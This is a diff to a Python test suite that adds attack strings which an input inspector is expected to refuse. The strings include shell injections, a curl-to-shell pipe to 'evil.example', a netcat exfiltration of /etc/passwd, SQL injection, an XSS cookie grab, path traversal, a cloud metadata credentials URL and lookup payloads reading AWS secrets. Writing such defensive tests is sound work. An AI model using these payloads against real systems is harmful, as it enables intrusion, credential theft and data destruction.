@@ -94,6 +94,42 @@ def test_a_placeholder_that_shows_data_passes(inspection: Inspection, text: str)
 
 
 ATTACKS = (
+    # Globs that end or begin a command or a statement, and one that names a file.
+    "\ncat /etc/passwd\n/**",
+    "\nrm -rf /**",
+    ";ls /**",
+    "; id **",
+    ";reboot;**",
+    "a;cat /etc/passwd /**",
+    "x;bash -i;**",
+    "1;shutdown;**",
+    "1;drop table users;**",
+    "**/.env",
+    "/**/.ssh/id_rsa",
+    "**/wp-config.php",
+    "(0)or(substr((select(password)from(users)),1,1)=char(112))--\\d",
+    "(0)or(exists(select(1)from(users)))--\\d",
+    "(1)or(1)=(1)--\\d",
+    "(0)or(1)#\\d",
+    "updatexml(1,concat(0x7e,(select(user()))),1)#\\d",
+    "(1)^(ascii(mid((select(password)from(users)),1,1))=(97))#\\d",
+    "1-sleep(5)#\\d",
+    "(\\d|{cat,/etc/passwd}|sh)",
+    "(\\.|{curl,evil.example}|sh)",
+    "(\\.|whoami|sh)",
+    "#/../../etc/passwd",
+    "#/%2E%2E/%2E%2E/etc/passwd",
+    "${env}",
+    "${class}",
+    "${param}",
+    "${applicationscope}",
+    "${sessionscope}",
+    "${systemproperties.x}",
+    "${pagecontext.x}",
+    "${environment:variable=AWS_SECRET_ACCESS_KEY}",
+    "${file-contents:fileName=web.config}",
+    "${script:a=js}",
+    "${dns:a=evil.example}",
     # Regular expressions that are no such.
     r".\/\.\.\/\.\boot.ini",
     r"C:\Windows\win.ini",
@@ -248,3 +284,23 @@ def test_the_name_of_a_class_that_acts_is_refused(
     inspection: Inspection, name: str, text: str
 ) -> None:
     assert in_json(inspection, name, text)
+
+
+CARRIED = (
+    *("content.text", "params.text", "metaData.x", "extra_vars.x", "outputs.a.value", "engines.a"),
+    *("nodes[].parameters.a", "breadcrumbs[].message", "stdout", "stackTrace", "rawSql", "prompt"),
+)
+
+
+@pytest.mark.parametrize("name", CARRIED)
+def test_an_attack_in_a_field_that_another_app_may_have_is_refused(
+    inspection: Inspection, name: str
+) -> None:
+    for text in (
+        "x' UNION SELECT username,password FROM users-- -",
+        "<img src=x onerror=alert(document.cookie)>",
+        "; cat /etc/passwd | nc 10.0.0.1 4444",
+        "../../../../etc/passwd",
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    ):
+        assert in_json(inspection, name, text), text
